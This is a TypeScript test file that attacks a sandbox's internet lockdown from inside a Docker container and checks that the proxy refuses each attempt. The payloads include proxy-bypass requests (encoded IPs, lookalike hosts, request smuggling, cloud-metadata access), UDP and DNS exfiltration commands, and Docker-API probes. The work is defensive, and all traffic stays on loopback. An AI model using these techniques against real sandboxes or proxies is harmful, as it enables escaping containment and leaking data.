import dgram from 'node:dgram';
import { mkdtempSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanUpInstance, loopbackEgress, startCanary, type Canary } from './egress-world.js';
import { lifecycleTestImage, makeSampleRepository, runJson } from './lifecycle-support.js';

/**
 * Attacks on the internet lockdown from inside a real sandbox (allowlist with method limits),
 * through the real lifecycle. The "outside world" is a server on the host's loopback that the
 * proxy reaches as `allowed.test`; TCP and UDP canaries on every host address record anything
 * that gets past. Expected for every attack: refused, and the canaries and the server see nothing.
 * No packet is addressed outside this machine.
 */

const instance = `egattack-${process.pid}`;
let repo: ReturnType<typeof makeSampleRepository>;
let work: string;
let server: http.Server;
let serverPort = 0;
const requests: string[] = [];
/** Every TCP connection the world's server accepted (a tunnel would open one even without a request). */
let worldConnections = 0;
let canary: Canary;
let udpCanary: dgram.Socket;
let udpPort = 0;
const udpHits: string[] = [];
let image: string;

/** A raw client in the sandbox: sends one payload ("\r\n" written as text) and prints the first line back. */
const RAW_CLIENT = String.raw`
use IO::Socket::INET;
my ($host, $port, $payload) = @ARGV;
$payload =~ s/\\r/\r/g; $payload =~ s/\\n/\n/g;
my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 5) or do { print "no-connection\n"; exit 0 };
$s->autoflush(1);
print $s $payload;
my $line;
eval { local $SIG{ALRM} = sub { die "timeout\n" }; alarm 8; $line = <$s>; alarm 0; };
print defined $line ? $line : "closed\n";
`;

beforeAll(async () => {
  image = lifecycleTestImage();
  repo = makeSampleRepository();
  work = mkdtempSync(join(tmpdir(), 'berth-egress-attacks-'));
  server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.headers.host} ${req.url}`);
    res.end('reached\n');
  });
  server.on('connection', () => (worldConnections += 1));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  serverPort = (server.address() as net.AddressInfo).port;
  canary = await startCanary();
  udpCanary = dgram.createSocket('udp4');
  udpCanary.on('message', (_msg, from) => udpHits.push(from.address));
  await new Promise<void>((resolve) => udpCanary.bind(0, '0.0.0.0', resolve));
  udpPort = udpCanary.address().port;
});

afterAll(() => {
  server?.close();
  canary?.close();
  udpCanary?.close();
  cleanUpInstance(instance, work, repo.dir);
});

describe('attacks on the lockdown from inside a sandbox (docker)', () => {
  it('refuses every attempt to get past the proxy or around it', async () => {
    const file = join(work, 'env.yaml');
    writeFileSync(
      file,
      `name: eg-attacks\nrepository: ${repo.dir}\nimage: minimal\ninternet: { access: allowlist, domains: [allowed.test], methods: [GET, HEAD] }\n`,
    );
    const p = serverPort;
    const attacks: Array<[string, string]> = [
      ['ip-literal', `CONNECT 127.0.0.1:${p} HTTP/1.1\\r\\nHost: 127.0.0.1:${p}\\r\\n\\r\\n`],
      ['short-ip', `CONNECT 127.1:${p} HTTP/1.1\\r\\nHost: 127.1:${p}\\r\\n\\r\\n`],
      ['decimal-ip', `CONNECT 2130706433:${p} HTTP/1.1\\r\\nHost: 2130706433:${p}\\r\\n\\r\\n`],
      ['hex-ip', `CONNECT 0x7f.1:${p} HTTP/1.1\\r\\nHost: 0x7f.1:${p}\\r\\n\\r\\n`],
      [
        'mapped-ipv6',
        `CONNECT [::ffff:127.0.0.1]:${p} HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]:${p}\\r\\n\\r\\n`,
      ],
      [
        'userinfo',
        `CONNECT user@allowed.test:${p} HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\n\\r\\n`,
      ],
      ['no-port', `CONNECT allowed.test HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`],
      ['port-22', `CONNECT allowed.test:22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n`],
      [
        'suffix-trick',
        `GET http://allowed.test.evil.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test.evil.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'prefix-trick',
        `GET http://evil-allowed.test:${p}/ HTTP/1.1\\r\\nHost: evil-allowed.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'host-mismatch',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: denied.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'post',
        `POST http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 1\\r\\n\\r\\nx`,
      ],
      [
        'unknown-method',
        `BREW http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'get-with-body',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 4\\r\\n\\r\\nbody`,
      ],
      [
        'method-override',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nX-HTTP-Method-Override: DELETE\\r\\n\\r\\n`,
      ],
      [
        'cl-te',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n`,
      ],
      [
        'websocket',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n`,
      ],
      [
        'h2c',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n`,
      ],
      // Refused as an IP literal before any lookup or dial: no packet goes anywhere.
      [
        'metadata',
        `GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n`,
      ],
      [
        'empty-label',
        `CONNECT allowed..test:${p} HTTP/1.1\\r\\nHost: allowed..test:${p}\\r\\n\\r\\n`,
      ],
      // "allowed.test" with a Cyrillic "а": its punycode form is not on the allowlist.
      [
        'idn-lookalike',
        `GET http://\u0430llowed.test:${p}/ HTTP/1.1\\r\\nHost: \u0430llowed.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'ssh-over-connect',
        `CONNECT allowed.test:${p} HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\n\\r\\nSSH-2.0-OpenSSH_9.2\\r\\n`,
      ],
    ];
    const command = [
      `cat > /tmp/raw.pl <<'PERL'${RAW_CLIENT}PERL`,
      'proxy=${HTTP_PROXY#http://}; gw=${proxy%:*}; port=${proxy##*:}; echo "proxy=$gw:$port"',
      ...attacks.map(
        ([name, payload]) =>
          `echo "${name}: $(perl /tmp/raw.pl "$gw" "$port" '${payload}' | head -1 | tr -d '\\r')"`,
      ),
      // Around the proxy: without its variables, with NO_PROXY=*, direct TCP and UDP to the host.
      `echo "no-proxy-vars: $(env -u HTTP_PROXY -u http_proxy perl -MHTTP::Tiny -e '$r = HTTP::Tiny->new(timeout => 5)->get($ARGV[0]); print $r->{status}' http://denied.test:${p}/)"`,
      `echo "no-proxy-star: $(NO_PROXY='*' no_proxy='*' perl -MHTTP::Tiny -e '$r = HTTP::Tiny->new(timeout => 5)->get($ARGV[0]); print $r->{status}' http://denied.test:${p}/)"`,
      `echo "direct-gateway: $(perl /tmp/raw.pl "$gw" ${canary.port} 'hello\\r\\n')"`,
      `perl -MIO::Socket::INET -e 'for my $h (@ARGV) { my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $h, PeerPort => ${udpPort}); print $s "exfil" if $s }' "$gw" 127.0.0.1`,
      `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $ARGV[0], PeerPort => 53); print $s "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05exfil\\x04test\\x00\\x00\\x01\\x00\\x01" if $s' "$gw"`,
      `echo "dns-exfil: $(getent hosts exfil-secret.allowed.test || echo unresolved)"`,
      `echo "raw-socket: $(perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) ? print "opened" : print "refused: $!"')"`,
      `echo "capabilities: $(awk '/^CapEff/ { print $2 }' /proc/self/status)"`,
      `echo "ipv6: $(cat /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null || echo absent) addrs=$(wc -l < /proc/net/if_inet6 2>/dev/null || echo 0)"`,
      `echo "docker-socket: $(ls /var/run/docker.sock /run/docker.sock 2>/dev/null | wc -l)"`,
      `echo "docker-api: $(perl /tmp/raw.pl "$gw" 2375 'GET /version HTTP/1.0\\r\\n\\r\\n')"`,
    ].join('\n');
    const run = await runJson({
      dataDir: join(work, 'data'),
      instance,
      envFile: file,
      command,
      resolveImage: () => image,
      egress: loopbackEgress(
        ['allowed.test', 'denied.test', 'evil-allowed.test', 'allowed.test.evil.test'],
        [serverPort],
        [],
      ),
    });
    expect(run.code, run.stderr).toBe(0);
    const output = run.result.attempts[0]?.commands[0]?.output ?? '';
    expect(output).toMatch(/proxy=\d+\.\d+\.\d+\.\d+:\d+/);
    for (const [name] of attacks) {
      const line = new RegExp(`^${name}: (.*)$`, 'm').exec(output)?.[1] ?? '(missing)';
      // A refusal: a 4xx/5xx answer from the proxy, or the connection closed on the attacker. A
      // CONNECT to an allowed host is answered 200 before the first bytes are checked; those bytes
      // (SSH, not TLS) end the tunnel before anything is dialled (see worldConnections below).
      const refused =
        name === 'ssh-over-connect'
          ? '(HTTP/1\\.[01] 200|closed)'
          : '(HTTP/1\\.[01] [45]\\d\\d|closed)';
      expect(`${name}: ${line}`).toMatch(new RegExp(`^${name}: ${refused}`));
    }
    // Around the proxy: without its variables nothing resolves or routes (599: the client's own
    // connection error); a client that still goes through the proxy gets its 403.
    expect(output).toMatch(/^no-proxy-vars: (599|403)$/m);
    expect(output).toMatch(/^no-proxy-star: (599|403)$/m);
    expect(output).toMatch(/^direct-gateway: (no-connection|closed)$/m);
    expect(output).toContain('dns-exfil: unresolved');
    expect(output).toMatch(/^raw-socket: refused/m);
    // NET_RAW (bit 13) and NET_ADMIN (bit 12) are gone: no raw sockets, no route or iptables changes.
    const caps = BigInt(`0x${/^capabilities: ([0-9a-f]+)$/m.exec(output)?.[1] ?? 'ffffffffff'}`);
    expect(caps & (1n << 12n)).toBe(0n);
    expect(caps & (1n << 13n)).toBe(0n);
    expect(output).toMatch(/^ipv6: (1|absent) addrs=0$/m);
    expect(output).toContain('docker-socket: 0');
    expect(output).toMatch(/^docker-api: (no-connection|closed)$/m);
    // Nothing got through to the world's server or to the canaries.
    expect(requests).toEqual([]);
    expect(worldConnections).toBe(0);
    expect(canary.hits).toEqual([]);
    await new Promise((r) => setTimeout(r, 500));
    expect(udpHits).toEqual([]);
  });
});
